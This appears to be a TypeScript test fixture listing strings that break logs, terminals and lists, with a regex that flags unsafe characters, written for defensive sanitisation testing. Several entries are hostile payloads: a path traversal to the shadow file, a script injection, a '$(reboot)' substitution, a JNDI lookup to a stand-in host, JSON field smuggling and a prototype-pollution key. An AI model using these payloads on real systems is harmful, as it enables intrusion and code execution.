/** Texts that have broken logs, terminals and lists elsewhere, by what is in them. */
export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
  "a line end": "ops\nroot",
  "a carriage return": "ops\r\nroot",
  NUL: "ops\0root",
  "an escape sequence": "\u001b]0;owned\u0007\u001b[2J",
  "C1 controls": "\u009b31mroot\u0085",
  DEL: "ops\u007f",
  "turned writing": "ops\u202etoor\u2066",
  "marks of direction": "ops\u200f\u061croot",
  "a line separator": "ops\u2028root\u2029",
  "an invisible space": "ops\u200b\ufeff",
  "half a character": "ops\ud800",
  "the other half": "\udc00ops",
  "a Cyrillic letter": "r\u043eot",
  "a letter and its accent": "ope\u0301",
  "full-width letters": "\uff52\uff4f\uff4f\uff54",
  "a comma": "ceph-ops,root",
  "a star": "*",
  "a question mark": "?oot",
  spaces: " root ",
  quotes: `"root" 'root' \`root\``,
  "a slash and dots": "../../etc/shadow",
  JSON: '"}],"admin":true,"x":[{"y":"',
  HTML: "<script>alert(1)</script>",
  "a format": "%s%n$(reboot)${jndi:ldap://evil}",
  "a property of objects": "__proto__",
  "other capital letters": "ROOT",
  "a long text": "r".repeat(4000),
};

/** What no line of a log or of a terminal may hold: controls, marks of direction, separators and halves of characters. */
export const UNSAFE = /[^\P{Cc}\n]|\p{Cs}|\p{Bidi_Control}|[\u2028\u2029]/u;
